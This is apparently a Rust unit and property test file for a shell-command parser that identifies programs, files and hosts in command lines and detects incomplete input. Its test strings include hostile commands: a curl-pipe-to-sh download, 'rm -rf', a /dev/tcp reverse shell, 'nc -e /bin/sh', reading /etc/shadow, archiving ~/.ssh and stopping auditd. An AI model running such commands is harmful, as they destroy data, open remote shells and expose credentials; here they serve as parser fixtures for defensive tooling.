use proptest::prelude::*;

use super::*;

fn programs(text: &str) -> Vec<String> {
    parse(text).programs
}

#[test]
fn programs_are_told_through_wrappers_pipes_and_quotes() {
    assert_eq!(programs("sudo -u postgres psql -c 'select 1' | tee /tmp/out"), ["sudo", "psql", "tee"]);
    assert_eq!(programs("A=1 B=2 env C=3 nohup /usr/bin/python3 x.py &"), ["env", "nohup", "python3"]);
    assert_eq!(
        programs("echo $(id -u) `hostname`; if true; then reboot; fi"),
        ["echo", "true", "reboot", "id", "hostname"]
    );
    assert_eq!(programs("bash -c 'rm -rf /srv; curl http://a.test/x | sh'"), ["bash", "rm", "curl", "sh"]);
    assert_eq!(programs("r\\m -rf /srv"), ["rm"]);
    assert_eq!(programs("sudo -i"), ["sudo"]);
    assert_eq!(programs("timeout 5 ssh db-1 sudo systemctl stop auditd"), ["timeout", "ssh", "sudo", "systemctl"]);
    assert_eq!(programs("bash <<EOF\nrm -rf /srv\nEOF\nls"), ["bash", "ls", "rm"]);
    assert_eq!(programs("cat <<EOF\nrm -rf /srv\nEOF"), ["cat"]);
}

#[test]
fn files_are_told() {
    assert_eq!(parse("cat /etc/shadow notes.txt > out 2>&1").files, ["out", "/etc/shadow", "notes.txt"]);
    assert_eq!(parse("dd if=/dev/sda of=/tmp/img").files, ["/dev/sda", "/tmp/img"]);
    assert_eq!(parse("tar czf /tmp/a.tgz ~/.ssh --exclude=/srv/x").files, ["/tmp/a.tgz", "~/.ssh", "/srv/x"]);
    assert_eq!(parse("chmod 4755 tool").files, ["tool"]);
}

#[test]
fn hosts_are_told() {
    assert_eq!(parse("ssh -p 2222 -i key root@web-1 uptime").hosts, ["web-1"]);
    assert_eq!(parse("scp a.txt ada@10.0.0.5:/tmp/").hosts, ["10.0.0.5"]);
    assert_eq!(parse("curl -s https://app:***@api.test:8443/x?y").hosts, ["api.test"]);
    assert_eq!(parse("psql -h db-1 -U app shop").hosts, ["db-1"]);
    assert_eq!(parse("bash -i >& /dev/tcp/10.1.1.1/4444 0>&1").hosts, ["10.1.1.1"]);
    assert_eq!(parse("rsync -a /srv/ backup-1:/srv/").hosts, ["backup-1"]);
    assert_eq!(parse("nc -e /bin/sh 10.2.2.2 9001").hosts, ["10.2.2.2"]);
}

#[test]
fn a_shell_asks_for_more() {
    for text in [
        "echo 'a",
        "echo \"a",
        "a |",
        "a &&",
        "cat <<EOF\nx",
        "cat <<EOF",
        "for i in 1 2; do",
        "if true; then",
        "x \\",
        "$(a",
        "while true\ndo echo",
    ] {
        assert!(incomplete(text), "{text}");
    }
    for text in [
        "echo a",
        "echo 'it''s'",
        "cat <<EOF\nx\nEOF",
        "for i in 1 2; do echo $i; done",
        "if a; then b; fi",
        "echo it\\'s",
        "cat <<'EOF'\nit's\nEOF",
        "sleep 1 &",
        "echo done",
        "git commit -m \"if this\"",
        "cat <<< x",
    ] {
        assert!(!incomplete(text), "{text}");
    }
}

proptest! {
    #[test]
    fn any_text_can_be_taken_apart(text in "[\\PC\n\t\\\\'\"$()`<>|;&#]{0,200}") {
        let parsed = parse(&text);
        prop_assert!(parsed.programs.len() <= NAMES_MAX);
        let _ = incomplete(&text);
    }
}
